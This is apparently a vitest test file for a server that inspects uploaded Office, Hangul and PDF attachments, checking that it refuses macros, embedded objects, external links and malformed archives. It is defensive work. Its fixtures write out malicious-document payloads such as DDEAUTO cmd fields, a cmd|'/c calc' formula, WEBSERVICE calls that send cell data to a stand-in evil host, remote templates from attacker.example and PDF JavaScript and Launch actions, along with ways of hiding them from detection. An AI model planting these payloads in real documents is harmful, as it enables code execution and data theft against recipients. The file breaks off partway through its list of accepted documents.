import zlib from 'node:zlib';
import { zipSync } from 'fflate';
import { getAttachmentType } from '@site/contract/attachment';
import { expect, test } from 'vitest';

import { findTypeProblem } from '../../server/attachments/attachments.ts';
import { inspectDocument, type Inspection } from '../../server/attachments/inspect-document.ts';
import { createPdf } from './fixture/inquiry.ts';
import {
  createContentTypes,
  createDocx,
  createHwpx,
  OFFICE,
  createPptx,
  createRelationship,
  createExternalRelationship,
  createXlsx,
} from './fixture/zip.ts';

/** Inspects a document in this process, because the server's separate process takes longer to start than to work. */
const getProblem = (name: string, content: Buffer): string | undefined =>
  findTypeProblem({ name, content }) ??
  inspectDocument({ type: getAttachmentType(name) as Inspection['type'], content });

const begin = '<w:fldChar w:fldCharType="begin"/>';
const separate = '<w:fldChar w:fldCharType="separate"/>';
const end = '<w:fldChar w:fldCharType="end"/>';
const createCode = (text: string) => `<w:instrText xml:space="preserve">${text}</w:instrText>`;
const createField = (text: string, result = '') =>
  begin + createCode(text) + separate + result + end;
const createDocxWithBody = (body: string) => createDocx({}, body);
const createDocxWithRelations = (xml: string) =>
  createDocx({ 'word/_rels/document.xml.rels': xml });
const createXlsxWithFormula = (text: string) => createXlsx({}, `<c><f>${text}</f></c>`);
const createXlsxWithRelations = (xml: string) => createXlsx({ 'xl/_rels/workbook.xml.rels': xml });
const createDocxWithDrawing = (svg: string) =>
  createDocx({ 'word/media/a.svg': `<svg xmlns="http://www.w3.org/2000/svg">${svg}</svg>` });
const createPart = (name: string, type: string, content: string | Buffer = '<x/>') => ({
  '[Content_Types].xml': createContentTypes(
    'vnd.openxmlformats-officedocument.wordprocessingml.document.main',
    `<Override PartName="/${name}" ContentType="${type}"/>`,
  ),
  [name]: content,
});
const createHpf = (item: string) =>
  createHwpx({ 'Contents/content.hpf': `<opf:package>${item}</opf:package>` });

const createPdfWithText = (text: string) => Buffer.from(`%PDF-1.7\n${text}\n%%EOF\n`, 'latin1');
const createPdfWithObject = (text: string) => createPdfWithText(`1 0 obj ${text} endobj`);
/** A PDF whose objects are in a compressed stream. */
const createPackedPdf = (objects: string | Buffer, dictionary = '', type = '/Type /ObjStm') =>
  Buffer.concat([
    Buffer.from(
      `%PDF-1.7\n1 0 obj\n<< ${type} /N 1 /First 4 ${dictionary} /Filter /FlateDecode >>\nstream\n`,
    ),
    zlib.deflateSync(objects),
    Buffer.from('\nendstream\nendobj\n%%EOF\n'),
  ]);
/** A file attached to a page, with the minimum that the standard requires. */
const ATTACHED_FILE = [
  '4 0 obj <</Type/Annot/Subtype/FileAttachment/Rect[5 5 8 8]/FS<</F(run.exe)/EF<</F 5 0 R>>>>>> endobj',
  '5 0 obj <</Length 15>> stream 123456789012345 endstream endobj',
].join('\n');

/** The script that Hangul writes into documents without macros. */
const NO_MACROS = {
  header: 'var Documents = XHwpDocuments;\r\nvar Document = Documents.Active_XHwpDocument;\r\n',
  source: 'function OnDocument_New()\r\n{\r\n\t//todo : \r\n}\r\n',
};
const OUTSIDE = 'https://attacker.example/template.dotm';
const SHARE = String.raw`\\attacker.example\share\x`;

/** A ZIP archive with some of its bytes changed. */
function createChangedDocx(change: (bytes: Buffer, directory: number) => void): Buffer {
  const bytes = Buffer.from(createDocx({ 'word/document.xml': '<w:document/>' }));
  change(bytes, bytes.indexOf('PK\x01\x02', 0, 'latin1'));
  return bytes;
}
/** The same parts as another program packs them: with folders, extra fields, and compression. */
const repack = (parts: Readonly<Record<string, string>>): Buffer =>
  Buffer.from(
    zipSync(
      Object.fromEntries(
        Object.entries(parts).map(([name, text]) => [
          name,
          [
            Buffer.from(text),
            {
              level: text === '' ? 0 : 9,
              extra: { 0x000a: new Uint8Array(32) },
              mtime: new Date(2026, 1),
            },
          ],
        ]),
      ),
    ),
  );
const HWPX_PARTS = { 'version.xml': '<v/>', 'Contents/content.hpf': '<opf:package/>' };

test.each<[what: string, name: string, content: Buffer, problem: string]>([
  ['a VBA project', 'a.docx', createDocx({ 'word/vbaProject.bin': 'macro' }), 'attachment.macro'],
  ['the type of macros', 'a.docx', OFFICE.docm, 'attachment.macro'],
  [
    'an ActiveX control',
    'a.docx',
    createDocx({ 'word/activeX/activeX1.bin': 'x' }),
    'attachment.macro',
  ],
  ['a control', 'a.docx', createDocxWithBody('<w:control r:id="r1"/>'), 'attachment.macro'],
  [
    'the relationship of a macro sheet',
    'a.xlsx',
    createXlsxWithRelations(
      createRelationship(
        'http://schemas.microsoft.com/office/2006/relationships/xlMacrosheet',
        'macrosheets/sheet1.xml',
      ),
    ),
    'attachment.macro',
  ],
  [
    'a shape that runs a macro of another file',
    'a.xlsx',
    createXlsx({ 'xl/drawings/drawing1.xml': `<xdr:sp macro="'${SHARE}'!Run"/>` }),
    'attachment.macro',
  ],
  [
    'a button of a slide that starts a program',
    'a.pptx',
    createPptx({}, '<a:hlinkClick action="ppaction://program" r:id="r1"/>'),
    'attachment.macro',
  ],
  [
    'a field that runs a macro',
    'a.docx',
    createDocxWithBody(createField('MACROBUTTON Run [click]')),
    'attachment.macro',
  ],
  [
    'an OLE object',
    'a.docx',
    createDocx({ 'word/embeddings/oleObject1.bin': 'OLE' }),
    'attachment.embedded',
  ],
  ['a program', 'a.docx', createDocx({ 'word/media/run.exe': 'MZ' }), 'attachment.embedded'],
  ['an archive', 'a.docx', createDocx({ 'word/media/more.zip': 'PK' }), 'attachment.embedded'],
  ['a film', 'a.pptx', createPptx({ 'ppt/media/film.mp4': 'x' }), 'attachment.embedded'],
  [
    'a web page to be merged',
    'a.docx',
    createDocxWithRelations(createRelationship('aFChunk', 'page.html')),
    'attachment.embedded',
  ],
  [
    'a macro in a document within it',
    'a.docx',
    createDocx({ 'word/embeddings/Sheet.xlsx': createXlsx({ 'xl/vbaProject.bin': 'x' }) }),
    'attachment.macro',
  ],
  [
    'a template from outside',
    'a.docx',
    createDocx({
      'word/_rels/settings.xml.rels': createExternalRelationship('attachedTemplate', OUTSIDE),
    }),
    'attachment.external',
  ],
  [
    'a picture from outside',
    'a.docx',
    createDocxWithRelations(createExternalRelationship('image', OUTSIDE)),
    'attachment.external',
  ],
  [
    'a picture from outside that does not say so',
    'a.docx',
    createDocxWithRelations(createRelationship('image', OUTSIDE)),
    'attachment.external',
  ],
  [
    'a picture of a share',
    'a.docx',
    createDocxWithRelations(createRelationship('image', '//attacker.example/x.png')),
    'attachment.external',
  ],
  [
    'a link to a network share',
    'a.docx',
    createDocxWithRelations(createExternalRelationship('hyperlink', 'file://host/a')),
    'attachment.external',
  ],
  [
    'a template whose address ends like an element',
    'a.docx',
    createDocx({
      'word/_rels/settings.xml.rels': createExternalRelationship(
        'attachedTemplate',
        `${OUTSIDE}?>`,
      ),
    }),
    'attachment.external',
  ],
  [
    'a template under another prefix',
    'a.docx',
    createDocx({
      'word/_rels/settings.xml.rels': createExternalRelationship(
        'attachedTemplate',
        OUTSIDE,
      ).replaceAll(/(<\/?)Rel/g, '$1r-1:Rel'),
    }),
    'attachment.external',
  ],
  [
    'an add-in of the web',
    'a.docx',
    createDocxWithRelations(
      createRelationship(
        'http://schemas.microsoft.com/office/2011/relationships/webextensiontaskpanes',
        'taskpanes.xml',
      ),
    ),
    'attachment.external',
  ],
  [
    'a relationship that nobody knows',
    'a.docx',
    createDocxWithRelations(createRelationship('https://a.example/loadsSomething', 'x.xml')),
    'attachment.unknown',
  ],
  [
    'a content type that nobody knows',
    'a.docx',
    createDocx(createPart('word/x.xml', 'application/x-run')),
    'attachment.unknown',
  ],
  [
    'a field that links',
    'a.docx',
    createDocxWithBody(createField(String.raw`LINK Excel.Sheet.8 "\\\\evil\\x.xls" A1`)),
    'attachment.external',
  ],
  [
    'a field that includes a text with slashes',
    'a.docx',
    createDocxWithBody(createField('INCLUDETEXT "//evil/a"')),
    'attachment.external',
  ],
  [
    'a field that includes a picture',
    'a.docx',
    createDocxWithBody(createField('INCLUDEPICTURE "http://evil/a.png"')),
    'attachment.external',
  ],
  [
    'a field that names another document',
    'a.docx',
    createDocxWithBody(createField('RD "x.docx"')),
    'attachment.external',
  ],
  [
    'a query of a database',
    'a.docx',
    createDocxWithBody('<w:fldSimple w:instr="DATABASE \\d x"/>'),
    'attachment.external',
  ],
  [
    'DDE in an attribute',
    'a.docx',
    createDocxWithBody("<w:fldSimple w:instr = 'DDEAUTO cmd'/>"),
    'attachment.external',
  ],
  [
    'DDE in a CDATA section',
    'a.docx',
    createDocxWithBody(createField('<![CDATA[DDEAUTO cmd]]>')),
    'attachment.external',
  ],
  [
    'DDE around a comment',
    'a.docx',
    createDocxWithBody(createField('DDE<!-- -->AUTO cmd')),
    'attachment.external',
  ],
  [
    'DDE in pieces',
    'a.docx',
    createDocxWithBody(begin + createCode('DD') + createCode('EAUTO cmd') + end),
    'attachment.external',
  ],
  [
    'DDE in references',
    'a.docx',
    createDocxWithBody(createField('&#68;&#x44;E cmd "x"')),
    'attachment.external',
  ],
  [
    'DDE without the beginning of a field',
    'a.docx',
    createDocxWithBody(createCode('DDEAUTO cmd')),
    'attachment.external',
  ],
  [
    'DDE in a deleted field',
    'a.docx',
    createDocxWithBody(`${begin}<w:delInstrText>DDEAUTO cmd</w:delInstrText>${end}`),
    'attachment.external',
  ],
  [
    'DDE in the result of a field',
    'a.docx',
    createDocxWithBody(createField('PAGE', createField('DDEAUTO cmd'))),
    'attachment.external',
  ],
  [
    'a field whose name another one makes',
    'a.docx',
    createDocxWithBody(begin + createField('QUOTE 68 68 69') + createCode(' cmd') + end),
    'attachment.unknown',
  ],
  [
    'a field that nobody knows',
    'a.docx',
    createDocxWithBody(createField('RUNSOMETHING x')),
    'attachment.unknown',
  ],
  [
    'a letter that is merged with data',
    'a.docx',
    createDocx({ 'word/settings.xml': '<w:settings><w:mailMerge/></w:settings>' }),
    'attachment.external',
  ],
  [
    'a picture of older releases from outside',
    'a.docx',
    createDocxWithBody(`<v:imagedata o:href="${OUTSIDE}"/>`),
    'attachment.external',
  ],
  [
    'a style sheet from outside',
    'a.docx',
    createDocx({ 'customXml/item1.xml': `<?xml-stylesheet href="${OUTSIDE}"?><x/>` }),
    'attachment.external',
  ],
  [
    'a link that opens under the pointer',
    'a.pptx',
    createPptx({}, '<a:hlinkMouseOver r:id="r1"/>'),
    'attachment.external',
  ],
  [
    'a connection to a database',
    'a.xlsx',
    createXlsxWithRelations(createRelationship('connections', 'connections.xml')),
    'attachment.external',
  ],
  [
    'a query of a web page',
    'a.xlsx',
    createXlsxWithRelations(createRelationship('queryTable', 'queryTable1.xml')),
    'attachment.external',
  ],
  [
    'a link to another workbook',
    'a.xlsx',
    createXlsxWithRelations(createRelationship('externalLink', 'externalLinks/externalLink1.xml')),
    'attachment.external',
  ],
  [
    'a DDE link',
    'a.xlsx',
    createXlsx({ 'xl/externalLinks/externalLink1.xml': '<ddeLink/>' }),
    'attachment.external',
  ],
  ['a DDE formula', 'a.xlsx', createXlsxWithFormula("cmd|'/c calc'!A1"), 'attachment.external'],
  [
    'a formula that asks the web',
    'a.xlsx',
    createXlsxWithFormula('WEBSERVICE(&quot;http://evil/&quot;&amp;A1)'),
    'attachment.external',
  ],
  [
    'the same function with its prefix',
    'a.xlsx',
    createXlsxWithFormula('_xlfn.WEBSERVICE(A1)'),
    'attachment.external',
  ],
  [
    'a picture that a formula loads',
    'a.xlsx',
    createXlsxWithFormula('_xlfn.IMAGE(A1)'),
    'attachment.external',
  ],
  [
    'a formula in a rule of formats',
    'a.xlsx',
    createXlsx({}, '<x:formula>RTD(A1)</x:formula>'),
    'attachment.external',
  ],
  [
    'a name that calls a library',
    'a.xlsx',
    createXlsx({}, '<definedName name="x">CALL("kernel32","WinExec")</definedName>'),
    'attachment.external',
  ],
  [
    'a formula that names a file',
    'a.xlsx',
    createXlsxWithFormula(`'${SHARE}[a.xlsx]S'!A1`),
    'attachment.external',
  ],
  [
    'a pivot table of outside data',
    'a.xlsx',
    createXlsx({
      'xl/pivotCache/a.xml':
        '<pivotCacheDefinition><cacheSource type="external"/></pivotCacheDefinition>',
    }),
    'attachment.external',
  ],
  [
    'a script in a drawing',
    'a.docx',
    createDocxWithDrawing('<svg:script>alert(1)</svg:script>'),
    'attachment.macro',
  ],
  [
    'an event in a drawing',
    'a.docx',
    createDocxWithDrawing('<path onload="alert(1)"/>'),
    'attachment.macro',
  ],
  [
    'a picture in a drawing from outside',
    'a.docx',
    createDocxWithDrawing(`<image href="${OUTSIDE}"/>`),
    'attachment.external',
  ],
  [
    'a font in a drawing from outside',
    'a.docx',
    createDocxWithDrawing(`<style>@font-face{src:url(${OUTSIDE})}</style>`),
    'attachment.external',
  ],
  [
    'a macro of Hangul',
    'a.hwpx',
    createHwpx({
      'Scripts/sourceScripts': NO_MACROS.source.replace('//todo', 'Run("cmd") //todo'),
    }),
    'attachment.macro',
  ],
  [
    'a macro behind what looks like a comment',
    'a.hwpx',
    createHwpx({ 'Scripts/sourceScripts.js': NO_MACROS.source.replace('todo', 'todo\u2028Run()') }),
    'attachment.macro',
  ],
  [
    'a chart of Hangul',
    'a.hwpx',
    createHwpx({ 'Chart/chart1.xml': '<c:chart/>', 'BinData/ole1.ole': 'OLE' }),
    'attachment.chart',
  ],
  [
    'an object of Hangul',
    'a.hwpx',
    createHwpx({ 'BinData/ole1.ole': 'OLE' }),
    'attachment.embedded',
  ],
  [
    'a film of Hangul that is elsewhere',
    'a.hwpx',
    createHpf(String.raw`<opf:item href="C:\\Users\\a.avi" media-type="image/avi" isEmbeded="0"/>`),
    'attachment.external',
  ],
  [
    'a picture of Hangul from a share',
    'a.hwpx',
    createHpf('<opf:item href="//evil/a.png" media-type="image/png"/>'),
    'attachment.external',
  ],
  [
    'a field of Hangul that nobody knows',
    'a.hwpx',
    createHwpx({ 'Contents/section0.xml': '<hp:fieldBegin type="RUN"/>' }),
    'attachment.unknown',
  ],
  [
    'a password of Hangul',
    'a.hwpx',
    createHwpx({ 'META-INF/manifest.xml': '<m><odf:encryption-data/></m>' }),
    'attachment.password',
  ],
  ['the content of an archive', 'a.docx', OFFICE.zip, 'attachment.mismatch'],
  ['the content of a sheet', 'a.docx', OFFICE.xlsx, 'attachment.mismatch'],
  ['the content of a book', 'a.hwpx', OFFICE.epub, 'attachment.mismatch'],
  ['the content of an HWPX', 'a.docx', OFFICE.hwpx, 'attachment.mismatch'],
  [
    'two beginnings',
    'a.docx',
    createDocx({
      '_rels/.rels':
        createRelationship('officeDocument', 'main.xml').replace('</Relationships>', '') +
        createRelationship('officeDocument', 'other.xml').replace(/^<Relationships[^>]*>/, ''),
    }),
    'attachment.mismatch',
  ],
  ['the head of an archive alone', 'a.docx', OFFICE.docx.subarray(0, 20), 'attachment.invalid'],
  [
    'text before the archive',
    'a.docx',
    Buffer.concat([Buffer.from('PK\x03\x04'), OFFICE.docx]),
    'attachment.invalid',
  ],
  [
    'text behind the archive',
    'a.docx',
    Buffer.concat([OFFICE.docx, Buffer.from('<html>')]),
    'attachment.invalid',
  ],
  [
    'entities',
    'a.docx',
    createDocx({ 'word/a.xml': '<!DOCTYPE a [<!ENTITY b "DDE">]><a/>' }),
    'attachment.invalid',
  ],
  [
    'a document type from outside',
    'a.docx',
    createDocx({ 'word/a.xml': '<!DOCTYPE a SYSTEM "http://evil/a.dtd"><a/>' }),
    'attachment.invalid',
  ],
  [
    'parts that are not XML',
    'a.docx',
    createDocx({ 'word/a.xml': '<a><b></a>' }),
    'attachment.invalid',
  ],
  ['parts in another encoding', 'a.docx', createDocxWithBody('\ufffd\0<'), 'attachment.invalid'],
  [
    'two parts of one name',
    'a.docx',
    createDocx({ 'word/a.xml': '<a/>', 'word/A.XML': '<a/>' }),
    'attachment.invalid',
  ],
  [
    'a part outside of its archive',
    'a.docx',
    createDocx({ '../a.xml': '<a/>' }),
    'attachment.invalid',
  ],
  [
    'a size that is not true',
    'a.docx',
    createChangedDocx((bytes, at) => void bytes.writeUInt32LE(1, at + 24)),
    'attachment.invalid',
  ],
  [
    'a checksum that is not true',
    'a.docx',
    createChangedDocx((bytes, at) => void bytes.writeUInt32LE(1, at + 16)),
    'attachment.invalid',
  ],
  [
    'a part that is named in two ways',
    'a.docx',
    createChangedDocx((bytes) => void bytes.write('X', 30)),
    'attachment.invalid',
  ],
  [
    'a part with a password',
    'a.docx',
    createChangedDocx(
      (bytes, at) => void (bytes.writeUInt16LE(1, 6), bytes.writeUInt16LE(1, at + 8)),
    ),
    'attachment.password',
  ],
  [
    'a script',
    'a.pdf',
    createPdfWithObject('<< /S /JavaScript /JS (app.alert(1)) >>'),
    'attachment.macro',
  ],
  [
    'a script with an escaped name',
    'a.pdf',
    createPdfWithObject('<< /S /J#61vaScript >>'),
    'attachment.macro',
  ],
  [
    'a program to start',
    'a.pdf',
    createPdfWithObject('<< /S /Launch /F (cmd.exe) >>'),
    'attachment.macro',
  ],
  [
    'a file within it',
    'a.pdf',
    createPdfWithObject('<< /Names << /EmbeddedFiles 2 0 R >> >>'),
    'attachment.embedded',
  ],
  [
    'a file that is attached to a page',
    'a.pdf',
    createPdfWithText(ATTACHED_FILE),
    'attachment.embedded',
  ],
  [
    'a file of a text',
    'a.pdf',
    createPdfWithObject('<< /AF [<< /F (a.exe) /E#46 << /UF 5 0 R >> >>] >>'),
    'attachment.embedded',
  ],
  [
    'a collection of files',
    'a.pdf',
    createPdfWithObject('<< /Collection << /View /D >> >>'),
    'attachment.embedded',
  ],
  [
    'an annotation that plays',
    'a.pdf',
    createPdfWithObject('<< /Subtype /Screen /Rect [0 0 1 1] >>'),
    'attachment.embedded',
  ],
  [
    'another file that it opens by itself',
    'a.pdf',
    createPdfWithObject(String.raw`<</OpenAction<</S/GoToR/F(\\\\\\\\evil\\\\x.pdf)>>>>`),
    'attachment.external',
  ],
  [
    'an address that it opens by itself',
    'a.pdf',
    createPdfWithObject('<</OpenAction<</S/URI/URI(http://evil/)>>>>'),
    'attachment.external',
  ],
  [
    'the same by reference',
    'a.pdf',
    createPdfWithText(
      '1 0 obj <</OpenAction 2 0 R>> endobj 2 0 obj <</S/URI/URI(http://evil/)>> endobj',
    ),
    'attachment.external',
  ],
  [
    'an address that opens with a page',
    'a.pdf',
    createPdfWithObject('<</AA<</O<</S/URI/URI(http://evil/)>>>>>>'),
    'attachment.external',
  ],
  [
    'an address behind an action of its own',
    'a.pdf',
    createPdfWithObject('<</OpenAction<</S/GoTo/D[1 0 R/Fit]/Next<</S/URI/URI(http://evil/)>>>>>>'),
    'attachment.external',
  ],
  [
    'an action in a text, where a table of places may lead',
    'a.pdf',
    createPdfWithObject('<< /Title (2 0 obj << /S /GoToR /F \\(x\\) >> endobj) >>'),
    'attachment.external',
  ],
  [
    'an action that nobody knows',
    'a.pdf',
    createPdfWithObject('<< /A << /S /Run >> >>'),
    'attachment.unknown',
  ],
  [
    'a click on a file',
    'a.pdf',
    createPdfWithObject('<< /A << /S /URI /URI (file:///c:/x) >> >>'),
    'attachment.external',
  ],
  [
    'a stream from another file',
    'a.pdf',
    createPdfWithText('1 0 obj << /Length 0 /F (http://evil/x) >> stream\nendstream endobj'),
    'attachment.external',
  ],
  [
    'a picture from a print shop',
    'a.pdf',
    createPdfWithObject('<< /OPI << /2.0 2 0 R >> >>'),
    'attachment.external',
  ],
  [
    'a form that sends',
    'a.pdf',
    createPdfWithObject('<< /A << /S /SubmitForm /F (http://evil/) >> >>'),
    'attachment.form',
  ],
  ['a form that is a program', 'a.pdf', createPdfWithObject('<< /XFA 2 0 R >>'), 'attachment.form'],
  [
    'a script in a compressed stream',
    'a.pdf',
    createPackedPdf('1 0 << /S /JavaScript >>'),
    'attachment.macro',
  ],
  [
    'an action in a compressed stream',
    'a.pdf',
    createPackedPdf('1 0 << /A << /S /GoToR /F (x) >> >>'),
    'attachment.external',
  ],
  [
    'a script in a stream whose dictionary is long',
    'a.pdf',
    createPackedPdf('1 0 << /S /JavaScript >>', `/Pad (${'A'.repeat(3000)} obj)`),
    'attachment.macro',
  ],
  [
    'a script in a stream that does not tell its kind',
    'a.pdf',
    createPackedPdf('% 1\n1 0 << /S /JavaScript >>', '', ''),
    'attachment.macro',
  ],
  ['a password', 'a.pdf', createPdfWithText('trailer << /Encrypt 5 0 R >>'), 'attachment.password'],
  [
    'an archive behind it',
    'a.pdf',
    Buffer.concat([createPdfWithText(''), OFFICE.zip]),
    'attachment.invalid',
  ],
  [
    'objects that are packed twice',
    'a.pdf',
    Buffer.from(
      createPackedPdf(zlib.deflateSync('1 0 << /S /JavaScript >>'))
        .toString('latin1')
        .replace('/FlateDecode', '[/FlateDecode /FlateDecode]'),
      'latin1',
    ),
    'attachment.invalid',
  ],
  [
    'a predictor over its objects',
    'a.pdf',
    createPackedPdf('<< >>', '/DecodeParms << /Predictor 12 >>'),
    'attachment.invalid',
  ],
  [
    'objects that do not unpack',
    'a.pdf',
    createPdfWithText('1 0 obj << /Type /ObjStm /Filter /FlateDecode >>\nstream\nx\nendstream'),
    'attachment.invalid',
  ],
])('refuses a document with %s', (_what, name, content, problem) => {
  expect(getProblem(name, content)).toBe(problem);
});

test.each<[what: string, name: string, content: Buffer]>([
  ['no more than its kind', 'a.docx', OFFICE.docx],
  ['no more than its kind', 'a.xlsx', OFFICE.xlsx],
  ['no more than its kind', 'a.pptx', OFFICE.pptx],
  ['no more than its kind', 'a.hwpx', OFFICE.hwpx],
  ['no more than its kind', 'a.pdf', Buffer.from(createPdf(100))],
  [
    'links to the web',
    'a.docx',
    createDocxWithRelations(createExternalRelationship('hyperlink', 'https://a.example/')),
  ],
  [
    'links to mail',
    'a.docx',
    createDocxWithRelations(createExternalRelationship('hyperlink', 'mailto:a@example.com')),
  ],
  [
    'a link to a place in it',
    'a.xlsx',
    createXlsxWithRelations(createRelationship('hyperlink', '#Sheet1!A1')),
  ],
  [
    'a picture',
    'a.docx',
    createDocx({
      'word/_rels/document.xml.rels': createRelationship('image', 'media/image1.png'),
      'word/media/image1.png': 'PNG',
    }),
  ],
  [
    'comments, notes and headers',
    'a.docx',
    createDocxWithRelations(createRelationship('comments', 'comments.xml')),
  ],
  [
    'parts in the strict variant',
    'a.docx',
    createDocxWithRelations(
      createRelationship(
        'http://purl.oclc.org/ooxml/officeDocument/relationships/styles',
        'styles.xml',
      ),
    ),
  ],
  [
    'a signature',
    'a.docx',
    createDocx({
      ...createPart(
        '_xmlsignatures/origin.sigs',
        'application/vnd.openxmlformats-package.digital-signature-origin',
        '',
      ),
      '_rels/more.rels': createRelationship(
        'http://schemas.openxmlformats.org/package/2006/relationships/digital-signature/origin',
        '_xmlsignatures/origin.sigs',
      ),
    }),
  ],
  [
    'a type that no part has',
    'a.docx',
    createDocx({
      '[Content_Types].xml': createContentTypes(
        'vnd.openxmlformats-officedocument.wordprocessingml.document.main',
        '<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/>',
      ),
    }),
  ],
  [
    'a table of contents',
    'a.docx',
    createDocxWithBody(
      begin +
        createCode('TOC \\o "1-3" \\h') +
        separate +
        createField('HYPERLINK \\l "_Toc1"', createField('PAGEREF _Toc1 \\h')) +
        end,
    ),
  ],
  [
    'page numbers, dates and cross-references',
    'a.docx',
    createDocxWithBody(
      createField('PAGE') + createField(' DATE \\@ "yyyy-MM-dd" ') + createField('REF _Ref1 \\h'),
    ),
  ],
  [
    'a link that is a field',
    'a.docx',
    createDocxWithBody(createField('HYPERLINK "https://a.example/"')),
  ],
  ['a calculation', 'a.docx', createDocxWithBody(createField('=SUM(ABOVE)'))],
  ['citations', 'a.docx', createDocxWithBody(createField('ADDIN ZOTERO_ITEM CSL_CITATION {}'))],
  [
    'places to type at',
    'a.docx',
    createDocxWithBody(createField('MACROBUTTON NoMacro [이름]') + createField('FORMTEXT')),
  ],
  ['characters in a circle', 'a.docx', createDocxWithBody(createField('eq \\o\\ac(○,印)'))],
  [
    'a condition with a field in it',
    'a.docx',
    createDocxWithBody(
      begin + createCode('IF ') + createField('PAGE') + createCode(' = 1 "a" "b"') + end,
    ),
  ],
  [
    'a sheet behind a chart',
    'a.docx',
    createDocx({
      'word/charts/chart1.xml': '<c:chart><c:f>Sheet1!$A$1</c:f></c:chart>',
      'word/embeddings/Sheet.xlsx': OFFICE.xlsx,
    }),
  ],
  [
    'the words of an attack as text',
    'a.docx',
    createDocxWithBody('<w:t>DDE, javascript: and INCLUDETEXT https:</w:t>'),
  ],
  [
    'a drawing of one long attribute',
    'a.docx',
    createDocxWithDrawing(`<path d="${'M0 0'.repeat(50_000)}"/>`),
  ],
  [
    'a drawing with links, gradients and a picture in it',
    'a.docx',
    createDocxWithDrawing(
      '<a href="https://a.example/"><path fill="url(#g)"/></a><image href="data:image/png;base64,AA=="/>',
    ),
  ],
  [
    'the document type of drawings',
    'a.docx',
    createDocx({
      'word/media/a.svg':
        '<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd"><svg/>',
    }),
  ],
  [
    'formulas',
    'a.xlsx',
    createXlsxWithFormula('IFERROR(VLOOKUP(A1,표!$A:$B,2,FALSE),&quot;a|b!c&quot;)'),
  ],
  [
    'formulas of newer releases',
    'a.xlsx',
    createXlsxWithFormula(
      '_xlfn.LET(_xlpm.x,_xlfn._xlws.FILTER(A:A,B:B),_xlfn.XLOOKUP(1,_xlpm.x,C:C))',
    ),
  ],
  [
    'a function that the workbook defines',
    'a.xlsx',
    createXlsx(
      {},
      '<definedName name="Twice">_xlfn.LAMBDA(_xlpm.x,2*_xlpm.x)</definedName><c><f>Twice(A1)</f></c>',
    ),
  ],
  [
    'a link in a formula',
    'a.xlsx',
    createXlsxWithFormula('HYPERLINK(&quot;https://a.example/&quot;,&quot;a&quot;)'),
  ],
  [
    'sheets that are named in many ways',
    'a.xlsx',
    createXlsxWithFormula("SUM('2026 (1월)'!A1,'a-b'!B2,'1월:3월'!C3)"),
  ],
  [
    'a pivot table of its own data',
    'a.xlsx',
    createXlsx({
      'xl/pivotCache/a.xml':
        '<pivotCacheDefinition refreshOnLoad="1"><cacheSource type="worksheet"/></pivotCacheDefinition>',
    }),
  ],
  [
    'drawings as Excel writes them',
    'a.xlsx',
    createXlsx({ 'xl/drawings/vmlDrawing1.vml': '<xml><v:textbox>a<br>b</v:textbox></xml>' }),
  ],
  [
    'shapes without a macro',
    'a.xlsx',
    createXlsx({ 'xl/drawings/drawing1.xml': '<xdr:sp macro="" textlink="Sheet1!$A$1"/>' }),
  ],
  [
    'what online sheets add',
    'a.xlsx',
    createXlsx({
      'xl/metadata': 'x',
      'xl/_rels/workbook.xml.rels': createRelationship(
        'http://customschemas.google.com/relationships/workbookmetadata',
        'metadata',
      ),
    }),
  ],
  [
    'buttons that lead to other slides',
    'a.pptx',
    createPptx(
      {},
      '<a:hlinkClick action="ppaction://hlinkshowjump?jump=nextslide" r:id=""/><a:hlinkMouseOver action="ppaction://hlinksldjump" r:id="r2"/>',
    ),
  ],
  [
    'an equation',
    'a.hwpx',
    createHwpx({
      'Contents/section0.xml': '<hp:equation><hp:script>a over b</hp:script></hp:equation>',
    }),
  ],
  [
    'links and fields of Hangul',
    'a.hwpx',
    createHwpx({
      'Contents/section0.xml':
        '<a><hp:fieldBegin type="HYPERLINK"/><hp:fieldBegin type="CLICK_HERE"/></a>',
    }),
  ],
  [
    'pictures of Hangul',
    'a.hwpx',
    createHpf('<opf:item href="BinData/image1.bmp" media-type="image/bmp" isEmbeded="1"/>'),
  ],
  [
    'the place of macros without any',
    'a.hwpx',
    createHwpx({
      'Scripts/headerScripts': Buffer.from(NO_MACROS.header, 'utf16le'),
      'Scripts/sourceScripts.js': NO_MACROS.source,
    }),
  ],
  [
    'a compressed mimetype and fields of another program',
    'a.hwpx',
    repack({ mimetype: 'application/hwp+zip', ...HWPX_PARTS }),
  ],
  [
    'its parts in another order, with folders',
    'a.hwpx',
    repack({ 'Contents/': '', ...HWPX_PARTS, mimetype: 'application/hwp+zip' }),
  ],
  ['no mimetype', 'a.hwpx', repack(HWPX_PARTS)],
  [
    'links to the web',
    'a.pdf',
    createPdfWithObject(
      '<< /Type /Annot /Subtype /Link /Rect [0 0 1 1] /F 4 /A << /S /URI /URI (https://a.example/) >> >>',
    ),
  ],
  [
    'a link without a scheme',
    'a.pdf',
    createPdfWithObject('<< /A << /S /URI /URI (www.a.example) >> >>'),
  ],
  [
    'a first page to show',
    'a.pdf',
    createPdfWithObject('<< /OpenAction << /S /GoTo /D [3 0 R /Fit] >> >>'),
  ],
  [
    'a first page by its place',
    'a.pdf',
    createPdfWithObject('<< /OpenAction [3 0 R /XYZ null null 0] >>'),
  ],
  [
    'bookmarks',
    'a.pdf',
    createPdfWithText(
      '1 0 obj << /Title (a) /A 2 0 R /Next 3 0 R >> endobj 2 0 obj << /S /GoTo /D (a) >> endobj 3 0 obj << /Title (b) /Dest (b) >> endobj',
    ),
  ],
  [
    'a form to fill in and print',
    'a.pdf',
    createPdfWithObject(
      '<< /Subtype /Widget /Rect [0 0 1 1] /FT /Tx /AA << /D << /S /Named /N /Print >> >> >>',
    ),
  ],
  [
    'names of fonts that are like keys',
    'a.pdf',
    createPdfWithText(
      '1 0 obj << /Resources << /Font << /A 2 0 R /EF 2 0 R /F 2 0 R >> >> >> endobj 2 0 obj << /Type /Font /Subtype /Type1 >> endobj',
    ),
  ],
  [
    'the structure of a tagged document',
    'a.pdf',
    createPdfWithObject('<< /S /Table /A << /O /Table /Summary (a) >> >>'),
  ],
  ['objects in a compressed stream', 'a.pdf', createPackedPdf('1 0 << /Type /Page >>')],
  [
    'the words of an attack in a compressed page',
    'a.pdf',
    createPackedPdf('1 0 0 1 50 700 cm (HTML/JavaScript) Tj', '', ''),
  ],
  [
    'words in a page',
    'a.pdf',
